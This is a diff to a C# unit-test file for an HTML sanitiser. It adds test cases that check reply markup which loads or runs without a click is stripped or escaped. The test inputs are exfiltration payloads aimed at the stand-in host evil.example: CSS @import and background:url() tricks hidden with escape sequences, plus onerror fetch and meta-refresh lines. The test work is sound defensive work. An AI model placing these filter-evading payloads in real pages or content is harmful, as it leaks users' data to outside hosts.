@@ -72,6 +72,12 @@ public sealed class ReplyActiveMarkupTests
     [InlineData("> <div =\"=\">\" style=\"background:url(https://evil.example/p?d=alice.w@corp.example)\">x</div>", "> <div =\"=\">\" style=\"\">x</div>")]
     [InlineData("x <img src=\"a.png\" =\"=\">\" onerror=\"fetch('https://evil.example/p?d=alice.w@corp.example')\">", "x <img src=\"a.png\" =\"=\">\" >")]
     [InlineData("x <meta http-equiv=\"refresh\" content=\"0;url=\\\n  \\evil.example/p?d=alice.w@corp.example\">", "x &lt;meta http-equiv=\"refresh\" content=\"0;url=\\\n  \\evil.example/p?d=alice.w@corp.example\">")]
+    [InlineData("x <style>@import \"\\9/\\9/evil.example/p.css?d=alice.w@corp.example\";</style> y", "x &lt;style>@import \"\\9/\\9/evil.example/p.css?d=alice.w@corp.example\";</style> y")]
+    [InlineData("x <style>@import \"\\\t/\\\t/evil.example/p.css?d=alice.w@corp.example\";</style> y", "x &lt;style>@import \"\\\t/\\\t/evil.example/p.css?d=alice.w@corp.example\";</style> y")]
+    [InlineData("x <style>@import \"/\\a\\a/evil.example/p.css?d=alice.w@corp.example\";</style> y", "x &lt;style>@import \"/\\a\\a/evil.example/p.css?d=alice.w@corp.example\";</style> y")]
+    [InlineData("x <style>@import \"/\t/evil.example/p.css?d=alice.w@corp.example\";</style> y", "x &lt;style>@import \"/\t/evil.example/p.css?d=alice.w@corp.example\";</style> y")]
+    [InlineData("x <div style=\"background:url('h\\9ttps://evil.example/p?d=alice.w@corp.example')\">y</div>", "x <div style=\"\">y</div>")]
+    [InlineData("x <div style=\"background:url(\\9/\\D/evil.example/p?d=alice.w@corp.example)\">y</div>", "x <div style=\"\">y</div>")]
     public async Task MarkupThatLoadsOrRunsUnclicked_IsRemoved(string reply, string shown)
     {
         var (guard, session, audit) = await AfterProfileAndPage();
